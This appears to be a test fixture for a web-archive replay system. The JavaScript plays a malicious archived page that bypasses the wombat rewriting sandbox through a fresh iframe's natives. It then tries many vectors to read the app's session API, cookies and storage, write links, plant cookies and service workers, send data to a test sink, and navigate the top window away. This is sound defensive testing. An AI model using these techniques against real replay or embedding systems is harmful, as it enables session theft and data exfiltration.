// What an archived page with bad intentions tries. It runs as the page's own script: rewritten, started under wombat, and knowing how to get
// around wombat (a fresh frame's natives). APP and SINK are put in by the test. Whatever it gets hold of goes into window.got.
window.got = [];
window.tried = [];
const hold = (name, what) => { if (what !== undefined && what !== null && what !== false && what !== '') window.got.push(`${name}: ${String(what).slice(0, 200)}`); };
const attempt = async (name, run) => {
  window.tried.push(name);
  try {
    const result = await Promise.race([run(), new Promise((resolve) => { setTimeout(() => resolve(null), 4000); })]);
    hold(name, result);
  } catch { /* refused */ }
};
/** An answer of the app's API, not one of replay in its place. */
const api = (text) => (/"(auth|links)"/.test(text) ? text : null);
// Natives that wombat has not put its hands on, where the browser gives a page such.
const fresh = () => {
  try {
    const frame = document.createElement('iframe');
    document.documentElement.append(frame);
    return frame.contentWindow.document ? frame.contentWindow : window;
  } catch { return window; }
};
const native = fresh();
const rawWindow = (() => { try { return native.eval('parent'); } catch { return (0, eval)('this'); } })();
const rawDocument = () => { try { return native.eval('parent.document'); } catch { return document; } };
const element = (tag, attributes) => {
  const made = native.Document.prototype.createElement.call(rawDocument(), tag);
  for (const [key, value] of Object.entries(attributes)) native.Element.prototype.setAttribute.call(made, key, value);
  native.Node.prototype.appendChild.call(rawDocument().documentElement, made);
  return made;
};

async function reads() {
  const all = [];
  for (const [name, options] of [['fetch', {}], ['fetch with credentials', { credentials: 'include' }], ['fetch without', { credentials: 'omit' }]]) {
    all.push(attempt(`${name} of the API`, async () => api(await (await native.fetch.call(rawWindow, `${APP}/api/v1/session`, options)).text())));
    all.push(attempt(`${name} of links by a leaked path`, async () => { const text = await (await native.fetch.call(rawWindow, '/api/v1/links', options)).text(); return api(text); }));
  }
  all.push(attempt('XHR of the API', () => new Promise((resolve, reject) => {
    const request = new native.XMLHttpRequest();
    request.open('GET', `${APP}/api/v1/session`);
    request.withCredentials = true;
    request.onload = () => resolve(api(request.responseText));
    request.onerror = reject;
    request.send();
  })));
  all.push(attempt('a script of the API', () => new Promise((resolve) => { element('script', { src: `${APP}/api/v1/session` }).onload = () => resolve('loaded'); })));
  all.push(attempt('events of the API', () => new Promise((resolve) => { new native.EventSource(`${APP}/api/v1/events`).onmessage = (event) => resolve(event.data); })));
  all.push(attempt('cookies of the app', async () => { const text = rawDocument().cookie; return /wm_/.test(text) ? text : null; }));
  all.push(attempt('its storage', async () => { const store = native.eval('parent').localStorage; return store.getItem('app-secret'); }));
  all.push(attempt('the document around', async () => rawWindow.parent !== rawWindow && rawWindow.parent.document.title));
  all.push(attempt('the topmost document', async () => rawWindow.top !== rawWindow && rawWindow.top.document.body.innerHTML));
  all.push(attempt('the opener', async () => rawWindow.opener && rawWindow.opener.document.title));
  all.push(attempt('the frame element', async () => rawWindow.frameElement && rawWindow.frameElement.ownerDocument.title));
  all.push(attempt('the ticket in a cookie', async () => { const text = rawDocument().cookie; return /wm_replay/.test(text) ? text : null; }));
  all.push(attempt('the ticket in the referrer', async () => (/_ticket/.test(rawDocument().referrer) ? rawDocument().referrer : null)));
  await Promise.all(all);
}

async function writes() {
  await attempt('a link by POST', async () => { const answer = await native.fetch.call(rawWindow, `${APP}/api/v1/links`, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"url":"http://hostile.example/"}' }); return answer.ok && 'posted'; });
  await attempt('a beacon to the API', async () => rawWindow.navigator.sendBeacon(`${APP}/api/v1/links`, '{"url":"http://hostile.example/"}') && null);
  await attempt('a form to the API', async () => { element('iframe', { name: 'inner' }); const form = element('form', { method: 'post', action: `${APP}/api/v1/links`, target: 'inner', enctype: 'text/plain' }); native.HTMLFormElement.prototype.submit.call(form); });
  await attempt('messages to the app', async () => { rawWindow.parent.postMessage({ wb_type: 'replace-url', url: `${SINK}/message`, title: 'hostile' }, '*'); rawWindow.top.postMessage('hostile', '*'); });
  await attempt('a cookie for the app', async () => { for (const path of ['/', '/api']) rawDocument().cookie = `wm_session=tossed; path=${path}`; });
  await attempt('a service worker', async () => (await rawWindow.navigator.serviceWorker.register('/sw.js')).scope);
  await attempt('a service worker from its memento', async () => (await rawWindow.navigator.serviceWorker.register(rawWindow.location.href.replace(/mp_|if_/, 'sw_').replace(/\/[^/]*$/, '/sw.js'))).scope);
}

async function leaks() {
  const all = [];
  const to = (name) => `${SINK}/${name}`;
  all.push(attempt('fetch', async () => { await native.fetch.call(rawWindow, to('fetch'), { mode: 'no-cors' }); }));
  all.push(attempt('XHR', async () => { const request = new native.XMLHttpRequest(); request.open('GET', to('xhr')); request.send(); }));
  all.push(attempt('a WebSocket', async () => { new native.WebSocket(to('socket').replace('http', 'ws')); }));
  all.push(attempt('an EventSource', async () => { new native.EventSource(to('events')); }));
  all.push(attempt('a beacon', async () => { rawWindow.navigator.sendBeacon(to('beacon'), 'x'); }));
  all.push(attempt('a picture', async () => { new native.Image().src = to('image'); element('img', { src: to('img') }); element('img', { srcset: `${to('srcset')} 1x` }); }));
  all.push(attempt('a script', async () => { element('script', { src: to('script') }); }));
  all.push(attempt('a module', async () => { element('script', { type: 'module', src: to('module') }); }));
  all.push(attempt('an import', async () => native.eval(`import('${to('import')}')`).then(() => 'imported')));
  all.push(attempt('a sheet', async () => { element('link', { rel: 'stylesheet', href: to('sheet') }); }));
  all.push(attempt('CSS', async () => { element('style', {}).textContent = `@import url(${to('css-import')}); body { background: url(${to('css-url')}) } @font-face { font-family: f; src: url(${to('font')}) } html { font-family: f; cursor: url(${to('cursor')}), auto; list-style-image: image-set("${to('image-set')}" 1x) }`; }));
  all.push(attempt('hints', async () => { for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest', 'dns-prefetch']) element('link', { rel, as: 'image', href: to(rel) }); }));
  all.push(attempt('speculation', async () => { element('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }], prerender: [{ source: 'list', urls: [to('prerender')] }] }); }));
  all.push(attempt('frames', async () => { element('iframe', { src: to('iframe') }); element('object', { data: to('object') }); element('embed', { src: to('embed') }); element('iframe', { srcdoc: `<img src="${to('srcdoc')}"><script src="${to('srcdoc-script')}"></script>` }); element('portal', { src: to('portal') }); }));
  all.push(attempt('media', async () => { element('video', { src: to('video'), poster: to('poster'), preload: 'auto' }); element('audio', { src: to('audio'), preload: 'auto' }); }));
  all.push(attempt('SVG', async () => { const box = element('div', {}); box.innerHTML = `<svg><image href="${to('svg-image')}"/><use href="${to('svg-use')}#x"/><script href="${to('svg-script')}"></script><style>@import url(${to('svg-style')});</style></svg>`; }));
  all.push(attempt('a data frame', async () => { element('iframe', { src: `data:text/html,<img src="${to('data-frame')}"><script>fetch("${to('data-fetch')}",{mode:"no-cors"})</script>` }); }));
  all.push(attempt('a blob frame', async () => { element('iframe', { src: native.URL.createObjectURL(new native.Blob([`<img src="${to('blob-frame')}"><script>new WebSocket("${to('blob-socket').replace('http', 'ws')}")</script>`], { type: 'text/html' })) }); }));
  all.push(attempt('a worker', async () => { const code = `WorkerGlobalScope.prototype.fetch.call(self, "${to('worker')}", { mode: 'no-cors' }); WorkerGlobalScope.prototype.fetch.call(self, "${APP}/api/v1/session").then((r) => r.text()).then((t) => postMessage(t)); importScripts("${to('worker-import')}")`; const worker = new native.Worker(native.URL.createObjectURL(new native.Blob([code]))); return new Promise((resolve) => { worker.onmessage = (event) => resolve(api(event.data)); }); }));
  all.push(attempt('a form', async () => { element('iframe', { name: 'sunk' }); const form = element('form', { action: to('form'), target: 'sunk' }); native.HTMLFormElement.prototype.submit.call(form); }));
  all.push(attempt('a ping', async () => { element('a', { href: '#', ping: to('ping') }).click(); }));
  all.push(attempt('a refresh', async () => { element('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${to('refresh')}">` }); }));
  all.push(attempt('a base', async () => { const base = element('base', { href: `${SINK}/base/` }); new native.Image().src = 'relative.png'; base.remove(); }));
  all.push(attempt('a paint worklet', async () => rawWindow.CSS.paintWorklet.addModule(to('worklet')).then(() => 'added')));
  all.push(attempt('a report', async () => { element('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${to('report')}` }); new native.Image().src = '/reported.png'; }));
  all.push(attempt('another frame of this origin', async () => { const name = Object.keys(rawWindow.localStorage).find((key) => key.includes('neighbour')); return name; }));
  all.push(attempt('WebRTC', async () => { const link = new (rawWindow.RTCPeerConnection ?? native.RTCPeerConnection)({ iceServers: [{ urls: `stun:127.0.0.1:${STUN}` }] }); link.createDataChannel('x'); await link.setLocalDescription(await link.createOffer()); await new Promise((resolve) => { setTimeout(resolve, 800); }); }));
  all.push(attempt('a connection in advance', async () => { element('link', { rel: 'preconnect', href: PRECONNECT }); await new Promise((resolve) => { setTimeout(resolve, 300); }); }));
  await Promise.all(all);
}

// Each may end the page, so each gets a page of its own.
const leaves = {
  top: () => { rawWindow.top.location = `${SINK}/top`; },
  parent: () => { rawWindow.parent.location.href = `${SINK}/parent`; },
  'top by its native setter': () => { Object.getOwnPropertyDescriptor(rawWindow.top, 'location').set.call(rawWindow.top, `${SINK}/setter`); },
  popup: () => { native.open.call(rawWindow, `${SINK}/popup`, '_blank'); },
  'a link to the top': () => { element('a', { href: `${SINK}/link`, target: '_top' }).click(); },
  'a form to the top': () => { native.HTMLFormElement.prototype.submit.call(element('form', { action: `${SINK}/form-top`, target: '_top' })); },
  download: () => { element('a', { href: `${SINK}/download`, download: 'x' }).click(); },
  assign: () => { native.eval('parent').location.assign(`${SINK}/leave`); },
  'the native location': () => { native.location.constructor.prototype.assign?.call(rawWindow.location, `${SINK}/native`); native.Function('u', 'parent.location.replace(u)')(`${SINK}/function`); },
  refresh: () => { element('meta', { 'http-equiv': 'refresh', content: `0;url=${SINK}/refresh-self` }); },
  history: () => { rawWindow.history.back(); },
};
window.leaving = Object.keys(leaves);
window.leave = (name) => { try { leaves[name](); } catch { /* refused */ } };
window.attack = () => reads().then(writes).then(leaks).then(() => { window.attacked = true; });
